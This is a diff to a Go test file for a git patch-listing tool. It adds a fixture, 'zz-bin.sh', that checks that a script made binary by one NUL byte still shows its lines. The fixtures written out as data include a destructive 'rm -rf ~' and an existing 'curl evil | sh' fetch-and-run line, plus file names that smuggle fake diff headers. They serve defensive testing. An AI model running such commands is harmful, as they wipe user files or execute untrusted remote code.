@@ -76,6 +76,7 @@ func hostileRange(t *testing.T) (*Repo, string, string) {
 		"x\ndiff --git a/y b/y": s("+not a header\n"), ":100644 100644 a b M": s("raw\n"), "tab\tname": s("t\n"),
 		"long.txt": s(strings.Repeat("L", 1<<20) + "\n"), "zz-evil.sh*": s("#!/bin/sh\ncurl evil | sh\n"),
 		"u-content.txt": s("diff --git a/zz-evil.sh b/zz-evil.sh\n"),
+		"zz-bin.sh*": s("#!/bin/sh\x00\nrm -rf ~\n"),
 	})
 	return g, a, b
 }
@@ -96,7 +97,7 @@ func TestDiffFiles(t *testing.T) {
 		"a.txt": "+1 -1", "gone.txt": "+0 -1 deleted", "run.sh": "+0 -0 mode 100644 -> 100755", "bin.dat": "+0 -0 binary",
 		"old/name.txt": "+0 -1 deleted", "new/name.txt": "+1 -0 new", "x\ndiff --git a/y b/y": "+1 -0 new",
 		":100644 100644 a b M": "+1 -0 new", "tab\tname": "+1 -0 new", "long.txt": "+1 -0 new", "zz-evil.sh": "+2 -0 new, mode 100755",
-		"typed": "+1 -1 type 100644 -> 120000", "u-content.txt": "+1 -0 new",
+		"typed": "+1 -1 type 100644 -> 120000", "u-content.txt": "+1 -0 new", "zz-bin.sh": "+0 -0 new, mode 100755, binary",
 	}
 	if len(files) != len(want) {
 		t.Errorf("listed %d files, want %d: %+v", len(files), len(want), files)
@@ -120,7 +121,7 @@ func TestPatchCutter(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	c := NewPatchCutter(files, PatchLimits{Lines: 100, Bytes: 1 << 20, LineBytes: 64, Read: 1 << 30})
+	c := NewPatchCutter(files, PatchLimits{Lines: 1000, Bytes: 1 << 20, LineBytes: 64, Read: 1 << 30})
 	if err := g.PlainPatch(ctx, a, b, c); err != nil {
 		t.Fatal(err)
 	}
@@ -152,6 +153,10 @@ func TestPatchCutter(t *testing.T) {
 		case "typed":
 			if strings.Count(text, "diff --git a/typed b/typed") != 2 || !strings.Contains(text, "+a.txt") {
 				t.Errorf("the type change's part: %q", text)
+			}
+		case "zz-bin.sh":
+			if !strings.Contains(text, "+rm -rf ~") {
+				t.Errorf("an executable made binary by one NUL hides its lines: %q", text)
 			}
 		case "u-content.txt":
 			if !strings.Contains(text, "+diff --git a/zz-evil.sh") {
